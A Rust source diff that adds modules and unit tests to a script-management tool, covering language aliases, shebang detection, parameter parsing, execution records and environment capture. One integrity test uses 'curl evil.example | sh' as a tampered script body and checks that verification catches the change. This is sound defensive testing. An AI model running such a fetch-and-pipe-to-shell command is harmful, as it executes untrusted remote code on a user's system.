@@ -1,16 +1,25 @@
 pub mod adapt;
+pub mod audit;
 pub mod auth;
 pub mod cli;
+pub mod color;
 pub mod config;
 pub mod constants;
 pub mod context;
+pub mod directives;
+pub mod encryption;
 pub mod execution;
+pub mod gist;
+pub mod logging;
+pub mod notify;
 pub mod script;
 pub mod storage;
 pub mod sync;
+pub mod templates;
 pub mod utils;
 pub mod vault;
 pub mod versions;
+pub mod webhook;
 
 pub use config::Config;
 pub use script::{
@@ -52,6 +61,36 @@ mod tests {
             );
         }
 
+        #[test]
+        fn test_language_from_str() {
+            for language in ScriptLanguage::ALL {
+                assert_eq!(language.to_string().parse(), Ok(language.clone()));
+                assert_eq!(
+                    language.to_string().to_uppercase().parse(),
+                    Ok(language.clone())
+                );
+            }
+            let alias = |s: &str| s.parse::<ScriptLanguage>().unwrap();
+            assert_eq!(alias("sh"), ScriptLanguage::Shell);
+            assert_eq!(alias("py"), ScriptLanguage::Python);
+            assert_eq!(alias("js"), ScriptLanguage::JavaScript);
+            assert_eq!(alias("node"), ScriptLanguage::JavaScript);
+            assert_eq!(alias("rb"), ScriptLanguage::Ruby);
+            assert_eq!(alias("pl"), ScriptLanguage::Perl);
+            assert_eq!(alias("ps1"), ScriptLanguage::PowerShell);
+            assert_eq!(alias("pwsh"), ScriptLanguage::PowerShell);
+            assert_eq!(alias("bat"), ScriptLanguage::Batch);
+            assert_eq!(alias("cmd"), ScriptLanguage::Batch);
+            assert_eq!(
+                "cobol".parse::<ScriptLanguage>(),
+                Err(
+                    "'cobol' is not a language; expected one of bash, shell, python, \
+                     javascript, ruby, perl, powershell, batch, unknown"
+                        .to_string()
+                )
+            );
+        }
+
         #[test]
         fn test_language_display() {
             assert_eq!(ScriptLanguage::Bash.to_string(), "bash");
@@ -141,6 +180,19 @@ mod tests {
             assert_eq!(script.success_rate(), 80.0);
         }
 
+        #[test]
+        fn test_verify_integrity() {
+            let mut script = Script::new(
+                "test".to_string(),
+                "echo test".to_string(),
+                ScriptLanguage::Bash,
+            );
+            assert!(script.verify_integrity());
+
+            script.content = "curl evil.example | sh".to_string();
+            assert!(!script.verify_integrity());
+        }
+
         #[test]
         fn test_execution_record_success() {
             let record = ExecutionRecord {
@@ -158,7 +210,13 @@ mod tests {
                     git_repo: None,
                     git_branch: None,
                     environment: HashMap::new(),
+                    os: None,
+                    arch: None,
+                    hostname: None,
                 },
+                succeeded: None,
+                resource_usage: None,
+                timings: None,
             };
             assert!(record.was_successful());
         }
@@ -180,15 +238,71 @@ mod tests {
                     git_repo: None,
                     git_branch: None,
                     environment: HashMap::new(),
+                    os: None,
+                    arch: None,
+                    hostname: None,
                 },
+                succeeded: None,
+                resource_usage: None,
+                timings: None,
             };
             assert!(!record.was_successful());
+            assert!(record.was_executed());
+
+            let recorded_only = ExecutionRecord {
+                exit_code: crate::constants::NOT_EXECUTED_EXIT_CODE,
+                ..record
+            };
+            assert!(!recorded_only.was_executed());
+        }
+
+        #[test]
+        fn test_language_from_shebang() {
+            assert_eq!(
+                ScriptLanguage::from_shebang("#!/bin/bash\necho hi"),
+                Some(ScriptLanguage::Bash)
+            );
+            assert_eq!(
+                ScriptLanguage::from_shebang("#!/usr/bin/env python3\n"),
+                Some(ScriptLanguage::Python)
+            );
+            assert_eq!(
+                ScriptLanguage::from_shebang("#!/usr/bin/env -S node --harmony\n"),
+                Some(ScriptLanguage::JavaScript)
+            );
+            assert_eq!(ScriptLanguage::from_shebang("echo hi"), None);
+            assert_eq!(ScriptLanguage::from_shebang("#!/usr/bin/awk -f"), None);
+        }
+
+        #[test]
+        fn test_script_param_parse() {
+            use crate::script::ScriptParam;
+
+            let p = ScriptParam::parse("env:Target environment=staging").unwrap();
+            assert_eq!(p.name, "env");
+            assert_eq!(p.description.as_deref(), Some("Target environment"));
+            assert_eq!(p.default.as_deref(), Some("staging"));
+            assert!(!p.required);
+
+            let p = ScriptParam::parse("url=https://example.com:8080").unwrap();
+            assert_eq!(p.name, "url");
+            assert_eq!(p.default.as_deref(), Some("https://example.com:8080"));
+
+            let p = ScriptParam::parse("tag").unwrap();
+            assert!(p.required);
+            assert!(p.default.is_none());
+
+            assert!(ScriptParam::parse("=oops").is_err());
+            assert!(ScriptParam::parse("two words").is_err());
         }
     }
 
     mod context_tests {
         use super::*;
-        use crate::context::{contexts_match, normalize_git_url};
+        use crate::context::{
+            capture_environment, contexts_match, detect_context_with, format_environment,
+            normalize_git_url,
+        };
 
         #[test]
         fn test_normalize_https() {
@@ -221,12 +335,18 @@ mod tests {
                 git_repo: Some("github.com/user/repo".to_string()),
                 git_branch: Some("main".to_string()),
                 environment: HashMap::new(),
+                os: None,
+                arch: None,
+                hostname: None,
             };
             let ctx2 = ScriptContext {
                 directory: Some("/home/user/project2".to_string()),
                 git_repo: Some("github.com/user/repo".to_string()),
                 git_branch: Some("develop".to_string()),
                 environment: HashMap::new(),
+                os: None,
+                arch: None,
+                hostname: None,
             };
             assert!(contexts_match(&ctx1, &ctx2));
         }
@@ -238,12 +358,18 @@ mod tests {
                 git_repo: None,
                 git_branch: None,
                 environment: HashMap::new(),
+                os: None,
+                arch: None,
+                hostname: None,
             };
             let ctx2 = ScriptContext {
                 directory: Some("/home/user/project".to_string()),
                 git_repo: None,
                 git_branch: None,
                 environment: HashMap::new(),
+                os: None,
+                arch: None,
+                hostname: None,
             };
             assert!(contexts_match(&ctx1, &ctx2));
         }
@@ -255,12 +381,18 @@ mod tests {
                 git_repo: Some("github.com/user/repo1".to_string()),
                 git_branch: None,
                 environment: HashMap::new(),
+                os: None,
+                arch: None,
+                hostname: None,
             };
             let ctx2 = ScriptContext {
                 directory: Some("/home/user/project2".to_string()),
                 git_repo: Some("github.com/user/repo2".to_string()),
                 git_branch: None,
                 environment: HashMap::new(),
+                os: None,
+                arch: None,
+                hostname: None,
             };
             assert!(!contexts_match(&ctx1, &ctx2));
         }
@@ -272,15 +404,61 @@ mod tests {
                 git_repo: None,
                 git_branch: None,
                 environment: HashMap::new(),
+                os: None,
+                arch: None,
+                hostname: None,
             };
             let ctx2 = ScriptContext {
                 directory: Some("/home/user/project/subdir".to_string()),
                 git_repo: None,
                 git_branch: None,
                 environment: HashMap::new(),
+                os: None,
+                arch: None,
+                hostname: None,
             };
             assert!(contexts_match(&ctx1, &ctx2));
         }
+
+        #[test]
+        fn test_capture_environment_only_configured_vars() {
+            let names = vec![
+                "USER".to_string(),
+                "DEPLOY_ENV".to_string(),
+                "UNSET".to_string(),
+            ];
+            let env = capture_environment(&names, |name| match name {
+                "USER" => Some("ricky".to_string()),
+                "DEPLOY_ENV" => Some("staging".to_string()),
+                "SECRET" => Some("hidden".to_string()),
+                _ => None,
+            });
+            assert_eq!(env.len(), 2);
+            assert_eq!(env["DEPLOY_ENV"], "staging");
+            assert!(!env.contains_key("SECRET"));
+            assert_eq!(
+                format_environment(&env),
+                "  DEPLOY_ENV=staging\n  USER=ricky\n"
+            );
+        }
+
+        #[test]
+        fn test_detect_context_populates_platform() {
+            let ctx = detect_context_with(&[]).unwrap();
+            assert_eq!(ctx.os.as_deref(), Some(std::env::consts::OS));
+            assert_eq!(ctx.arch.as_deref(), Some(std::env::consts::ARCH));
+        }
+
+        #[test]
+        fn test_context_without_platform_fields_deserializes() {
+            let ctx: ScriptContext = serde_json::from_str(
+                r#"{"directory":"/srv","git_repo":null,"git_branch":null,"environment":{}}"#,
+            )
+            .unwrap();
+            assert_eq!(ctx.directory.as_deref(), Some("/srv"));
+            assert_eq!(ctx.os, None);
+            assert_eq!(ctx.hostname, None);
+        }
     }
 
     mod config_tests {